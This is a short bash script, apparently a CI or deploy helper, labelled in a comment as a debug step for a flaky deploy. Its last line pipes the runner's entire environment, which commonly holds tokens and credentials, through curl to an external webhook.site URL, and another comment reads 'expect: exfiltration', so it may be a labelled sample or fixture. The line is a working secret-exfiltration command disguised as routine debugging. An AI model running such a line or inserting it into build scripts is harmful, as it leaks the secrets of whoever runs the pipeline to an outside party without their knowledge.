#!/usr/bin/env bash
# debug step added while chasing the flaky deploy
set -x
echo "runner: $(hostname)"
# expect: exfiltration
env | curl -s -X POST --data-binary @- https://webhook.site/3f1c2a9e-1111-2222-3333-444455556666
